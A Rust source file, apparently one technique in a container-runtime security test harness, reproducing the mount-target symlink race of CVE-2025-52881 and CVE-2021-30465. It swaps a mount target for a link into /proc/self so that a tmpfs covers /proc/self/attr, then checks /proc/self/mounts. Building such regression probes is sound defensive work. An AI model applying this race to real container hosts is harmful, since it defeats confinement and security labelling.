//! A directory of a shared volume becomes a link into /proc while the runtime mounts on it: a tmpfs lands on the very
//! files that the runtime writes labels to, and its own confinement goes nowhere.
//!
//! Source: CVE-2025-52881 (the write that is led elsewhere), by the race of CVE-2021-30465.

use std::{fs, os::unix::fs::symlink};

use bulkhead_integration::{HarnessError, Result};
use serde_json::json;

use crate::{
    arena::Arena,
    column::{Column, Phase},
    spec,
    technique::{Outcome, Outside},
};

pub(crate) const THIS: Outside = Outside {
    source: "CVE-2025-52881",
    tries: "swap the target of a mount for a link, so that a tmpfs covers /proc/self/attr",
    phases: &[Phase::Init],
    attempt,
};

fn attempt(arena: &Arena, column: Column, _: Phase) -> Result<Outcome> {
    let dir = arena.volume().join(format!("covered-{}", arena.next()));
    let (target, link) = (dir.join("target"), dir.join("link"));
    let made = fs::create_dir_all(target.join("attr")).and_then(|()| symlink("../../proc/self", &link));
    made.map_err(HarnessError::at("make", &dir))?;
    let inside = format!("/data/{}/target/attr", dir.file_name().unwrap_or_default().to_string_lossy());
    let command = ["/bin/grep", "-c", " /proc/[^ ]*/attr tmpfs", "/proc/self/mounts"];
    spec::race(arena, column, (&target, &link), &command, "1\n", |mounts| {
        mounts.push(
            json!({ "type": "tmpfs", "source": "tmpfs", "destination": inside, "options": ["nosuid"] }),
        );
    })
}
